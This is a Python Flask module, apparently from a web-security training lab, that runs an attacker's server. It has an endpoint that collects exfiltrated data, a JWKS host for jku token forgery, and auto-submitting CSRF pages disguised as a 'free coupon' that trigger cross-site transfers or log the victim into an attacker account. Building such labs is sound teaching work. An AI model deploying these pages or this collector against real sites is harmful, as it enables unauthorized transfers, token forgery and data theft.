"""⚠️ The attacker's server of the token labs (04a): a collector for stolen data, and a cross-site page.

* ``POST /collect`` — where an injected script sends what it stole (any body); each
  arrival is kept in ``app.collected`` (``body`` parsed as JSON when it is JSON, ``origin``);
* ``GET /jwks.json`` — the attacker's key set (``app.jwks``, set by the lab), for a
  token whose ``jku`` header points here; each fetch is counted in ``app.jwks_fetches``;
* ``GET /csrf?target=URL&how=form|fetch`` — the page of the "other site": ``form`` submits
  a cross-site ``POST /transfer`` as a plain HTML form (what any site can do), ``fetch``
  sends it from JavaScript with ``credentials: "include"`` *and* an ``X-Requested-With``
  header (a non-simple request: the browser asks the target first with a CORS preflight).
  The page writes what its script saw into ``<pre id="report">``. ``how=login`` submits a
  cross-site ``POST /login`` form with the *attacker's* account (``ATTACKER_ACCOUNT``): login
  CSRF, the victim's browser then works in the attacker's account.

Run it on another port (``127.0.0.1``) or another name (``evil.test`` via
``infra.browser.Profile(hosts=...)``) than the target app: then it is another origin or site.
"""

from __future__ import annotations

import html
import json
from collections import deque

from flask import Flask, request

__all__ = ["create_token_attacker_app", "ATTACKER_ACCOUNT"]

ATTACKER_ACCOUNT = ("mallory", "mallory-pw")  # the account a login-CSRF page logs its victim into


def create_token_attacker_app(name: str = "token-attacker") -> Flask:
    app = Flask(name)
    collected: deque = deque(maxlen=200)
    app.collected = collected  # type: ignore[attr-defined]  # read by the lab
    app.jwks = {"keys": []}  # type: ignore[attr-defined]  # the lab puts the attacker's public key here
    app.jwks_fetches = 0  # type: ignore[attr-defined]

    @app.get("/jwks.json")
    def jwks():
        app.jwks_fetches += 1
        return app.jwks

    @app.route("/collect", methods=["POST", "GET"])
    def collect():
        raw = request.get_data(as_text=True)
        try:
            body = json.loads(raw) if raw else dict(request.args)
        except ValueError:
            body = raw
        collected.append({"body": body, "origin": request.headers.get("Origin")})
        return "", 204

    @app.get("/csrf")
    def csrf():
        target = request.args.get("target", "")
        if not target.startswith("http://") or any(c in target for c in "\"'<> "):
            return "target=http://... 가 필요합니다", 400
        how = request.args.get("how") if request.args.get("how") in ("fetch", "login") else "form"
        if how == "login":
            user, password = ATTACKER_ACCOUNT
            return _LOGIN_CSRF_PAGE.format(
                action=html.escape(target.rstrip("/") + "/login"), user=user, password=password
            )
        return (
            _CSRF_PAGE.replace("__TARGET__", json.dumps(target.rstrip("/")))
            .replace("__HOW__", json.dumps(how))
            .replace("__ACTION__", html.escape(target.rstrip("/") + "/transfer"))
        )

    return app


_CSRF_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>무료 쿠폰!</title></head>
<body><pre id="report">실행 중…</pre>
<form id="f" method="post" action="__ACTION__"><input type="hidden" name="to" value="mallory"></form>
<script>
const TARGET = __TARGET__, HOW = __HOW__;
if (HOW === 'form') {
  document.getElementById('report').textContent = JSON.stringify({how: HOW, submitted: true});
  document.getElementById('f').submit();
} else {
  fetch(TARGET + '/transfer', {method: 'POST', credentials: 'include',
    headers: {'X-Requested-With': 'fetch', 'Content-Type': 'application/x-www-form-urlencoded'},
    body: 'to=mallory'})
    .then(async r => { document.getElementById('report').textContent =
      JSON.stringify({how: HOW, status: r.status, body: await r.text()}); })
    .catch(e => { document.getElementById('report').textContent =
      JSON.stringify({how: HOW, blocked: String(e)}); });
}
</script></body></html>"""

_LOGIN_CSRF_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>무료 쿠폰!</title></head>
<body><pre id="report">{{"how": "login", "submitted": true}}</pre>
<form id="f" method="post" action="{action}">
<input type="hidden" name="username" value="{user}"><input type="hidden" name="password" value="{password}">
</form><script>document.getElementById('f').submit();</script></body></html>"""
